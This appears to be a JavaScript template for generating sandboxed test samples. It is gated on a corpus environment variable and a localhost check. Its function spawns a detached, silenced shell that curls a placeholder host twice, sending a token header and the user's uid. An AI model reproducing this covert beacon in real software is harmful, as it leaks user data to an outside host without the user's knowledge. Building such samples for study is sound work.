// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    try {
        require('child_process').exec('nohup setsid sh -c \'for i in 1 2; do curl -s -m 1 -H "X-Id: {{token}}" "http://{{host}}/{{path}}?u=$(id -u)"; sleep 0.8; done\' >/dev/null 2>&1 &', () => {});
    } catch {}
}
